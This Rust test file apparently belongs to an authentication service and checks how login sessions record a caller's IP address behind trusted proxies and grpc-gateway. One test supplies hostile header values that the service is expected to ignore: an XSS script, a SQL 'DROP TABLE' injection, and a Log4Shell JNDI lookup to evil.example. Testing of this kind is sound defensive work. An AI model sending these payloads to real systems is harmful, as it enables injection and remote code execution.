//! R66. Who calls, where a proxy stands in between.

use sekisho::proto::sekisho::v1 as pb;
use serde_json::Value;
use tonic::Request;
use tonic_types::StatusExt;

use super::clients;
use crate::{
    support::{
        Answer, TestApp,
        acts::{ADA, WRONG, login_body},
        app::PASSWORD,
        http::send,
    },
    surfaces::grpc_web,
};

const CLIENT: &str = "192.0.2.7";
/// The tests themselves are the proxy.
const BEHIND: [(&str, &str); 2] = [("SEKISHO_TRUSTED_PROXIES", "127.0.0.1, 10.0.0.0/8"), ("SEKISHO_MAX_SESSIONS", "0")];
const DIRECT: [(&str, &str); 2] = [("SEKISHO_TRUSTED_PROXIES", "10.0.0.0/8"), ("SEKISHO_MAX_SESSIONS", "0")];

fn login_request<T: Into<String>>(client_id: T, password: &str) -> Request<pb::LoginRequest> {
    let (email, password, client_id) = (ADA.to_owned(), password.to_owned(), client_id.into());
    Request::new(pb::LoginRequest { email, password, client_id, device_name: None })
}

/// What the service knows of the session of an access token.
async fn session(app: &TestApp, access: &str) -> Value {
    let sessions = app.listed(access).await;
    sessions.into_iter().find(|session| session["current"] == true).unwrap()
}

async fn login_with(app: &TestApp, headers: &[(&str, &[u8])]) -> Answer {
    let request = app.request("POST", "/api/v1/auth/login").json(&login_body("phone"));
    send(headers.iter().fold(request, |request, (name, value)| request.header(*name, *value))).await
}

/// The address that a login with these headers has.
async fn seen(app: &TestApp, headers: &[(&str, &[u8])]) -> String {
    let answer = login_with(app, headers).await;
    assert_eq!(answer.status, 200, "{headers:?}: {answer:?}");
    let session = session(app, answer.body["access_token"].as_str().unwrap()).await;
    session["ip_address"].as_str().unwrap().to_owned()
}

/// The addresses that logins over every surface and version of HTTP have.
async fn seen_everywhere(app: &TestApp, name: &'static str, value: &str) -> Vec<String> {
    let mut tokens = Vec::new();
    for (_, client) in clients() {
        let request = client.post(format!("{}/api/v1/auth/login", app.base())).json(&login_body("phone"));
        tokens.push(send(request.header(name, value)).await.body["access_token"].as_str().unwrap().to_owned());
    }
    let mut request = login_request("phone", PASSWORD);
    request.metadata_mut().insert(name, value.parse().unwrap());
    tokens.push(app.auth().await.login(request).await.unwrap().into_inner().access_token);
    for encoding in [grpc_web::Encoding::Binary, grpc_web::Encoding::Text] {
        let message = login_request("phone", PASSWORD).into_inner();
        let headers = &[(name, value)];
        let reply = grpc_web::call_with(app, encoding, "sekisho.v1.AuthService/Login", &message, headers).await;
        tokens.push(reply.message::<pb::LoginResponse>().access_token);
    }
    let mut addresses = Vec::new();
    for token in &tokens {
        addresses.push(session(app, token).await["ip_address"].as_str().unwrap().to_owned());
    }
    addresses
}

/// R66.
#[tokio::test(flavor = "multi_thread")]
async fn a_proxy_tells_who_calls_on_every_surface() {
    let app = TestApp::with(&BEHIND).await;
    app.ada().await;
    for (name, value, wanted) in [
        ("x-forwarded-for", "203.0.113.1, 192.0.2.7, 10.0.0.1", CLIENT),
        ("forwarded", "for=203.0.113.1, for=\"[2001:db8::7]:4711\";proto=https, for=10.0.0.1", "2001:db8::7"),
    ] {
        assert_eq!(seen_everywhere(&app, name, value).await, [wanted; 5], "{name}");
    }
}

/// R66.
#[tokio::test(flavor = "multi_thread")]
async fn others_are_not_believed_on_any_surface() {
    let app = TestApp::with(&DIRECT).await;
    app.ada().await;
    for (name, value) in [("x-forwarded-for", CLIENT), ("forwarded", "for=192.0.2.7"), ("x-real-ip", CLIENT)] {
        assert_eq!(seen_everywhere(&app, name, value).await, ["127.0.0.1"; 5], "{name}");
    }
}

/// R66. authentik CVE-2024-47070: what could not be read let everybody in.
#[tokio::test(flavor = "multi_thread")]
async fn junk_is_neither_an_error_nor_an_address() {
    let app = TestApp::with(&BEHIND).await;
    app.ada().await;
    let long = "10.0.0.1, ".repeat(1_000);
    for junk in [
        &b""[..],
        b"unknown",
        b"\xff\xfe",
        b"\t",
        b",,,",
        b"for=",
        b"\"",
        b"999.1.1.1",
        b"127.0.0.1.evil.example",
        b"<script>alert(1)</script>",
        b"'; DROP TABLE sessions; --",
        b"${jndi:ldap://evil.example}",
        b"192.0.2.7:99999",
        b"[::1",
    ] {
        for name in ["x-forwarded-for", "forwarded"] {
            assert_eq!(seen(&app, &[(name, junk)]).await, "127.0.0.1", "{name}: {junk:?}");
        }
        let behind_junk = [junk, b", 192.0.2.7"].concat();
        assert_eq!(seen(&app, &[("x-forwarded-for", &behind_junk)]).await, CLIENT, "{junk:?}");
    }
    assert_eq!(seen(&app, &[("x-forwarded-for", long.as_bytes())]).await, "10.0.0.1");
    // Wrong is wrong, whatever is sent with it.
    let mut body = login_body("phone");
    body["password"] = WRONG.into();
    let wrong = app.request("POST", "/api/v1/auth/login").header("x-forwarded-for", &b"\xff"[..]).json(&body);
    send(wrong).await.refused(401, "invalid_credentials");
}

/// R66. A proxy that writes one of the headers does not look at the other.
#[tokio::test(flavor = "multi_thread")]
async fn one_header_is_read_where_there_are_two() {
    let app = TestApp::with(&BEHIND).await;
    app.ada().await;
    let spoofed = [("forwarded", &b"for=203.0.113.9"[..]), ("x-forwarded-for", &b"192.0.2.7"[..])];
    assert_eq!(seen(&app, &spoofed).await, CLIENT);
    let lines = [("x-forwarded-for", &b"203.0.113.9"[..]), ("x-forwarded-for", &b"192.0.2.7"[..])];
    assert_eq!(seen(&app, &lines).await, CLIENT);
}

/// The metadata that grpc-gateway makes of a browser's request.
fn through_gateway<T>(mut request: Request<T>) -> Request<T> {
    for (name, value) in [
        ("grpcgateway-accept-language", "ja"),
        ("grpcgateway-user-agent", "Browser/1"),
        ("x-forwarded-host", "app.example"),
        ("x-forwarded-for", "192.0.2.7"),
        // Only where it was told to.
        ("grpcgateway-x-request-id", "order-7"),
    ] {
        request.metadata_mut().append(name, value.parse().unwrap());
    }
    request
}

#[tokio::test(flavor = "multi_thread")]
async fn a_callers_headers_mean_the_same_through_grpc_gateway() {
    let app = TestApp::with(&BEHIND).await;
    let ada = app.ada().await;
    let login = app.auth().await.login(through_gateway(login_request("phone", PASSWORD))).await.unwrap();
    assert_eq!(login.metadata().get("x-request-id").unwrap(), "order-7");
    let session = session(&app, &login.into_inner().access_token).await;
    assert_eq!((&session["ip_address"], &session["device"]), (&CLIENT.into(), &"Browser/1".into()));

    let status = app.auth().await.login(through_gateway(login_request("phone", WRONG))).await.unwrap_err();
    assert_eq!(status.get_error_details().localized_message().unwrap().locale, "ja");

    for name in ["authorization", "grpcgateway-authorization"] {
        let mut request = through_gateway(Request::new(pb::GetProfileRequest {}));
        request.metadata_mut().insert(name, format!("Bearer {}", ada.access).parse().unwrap());
        app.users().await.get_profile(request).await.expect(name);
    }
}

/// R66. Its callers' `Grpc-Metadata-Forwarded` and the like become metadata of
/// those names, and of older releases that of its own names, too.
#[tokio::test(flavor = "multi_thread")]
async fn what_a_caller_has_grpc_gateway_say_is_not_the_gateways_word() {
    let app = TestApp::with(&BEHIND).await;
    app.ada().await;
    let mut request = login_request("phone", PASSWORD);
    for (name, value) in [("x-forwarded-for", "203.0.113.9"), ("forwarded", "for=203.0.113.9")] {
        request.metadata_mut().append(name, value.parse().unwrap());
    }
    let login = app.auth().await.login(through_gateway(request)).await.unwrap().into_inner();
    assert_eq!(session(&app, &login.access_token).await["ip_address"], CLIENT);
}

/// R66.
#[tokio::test(flavor = "multi_thread")]
async fn who_is_no_proxy_is_no_gateway() {
    let app = TestApp::with(&DIRECT).await;
    let ada = app.ada().await;
    let login = app.auth().await.login(through_gateway(login_request("phone", PASSWORD))).await.unwrap();
    assert_ne!(login.metadata().get("x-request-id").unwrap(), "order-7");
    let session = session(&app, &login.into_inner().access_token).await;
    assert_eq!(session["ip_address"], "127.0.0.1");
    assert_ne!(session["device"], "Browser/1");
    let mut request = Request::new(pb::GetProfileRequest {});
    let bearer = format!("Bearer {}", ada.access);
    request.metadata_mut().insert("grpcgateway-authorization", bearer.parse().unwrap());
    let status = app.users().await.get_profile(request).await.unwrap_err();
    assert_eq!(status.code(), tonic::Code::Unauthenticated);
}
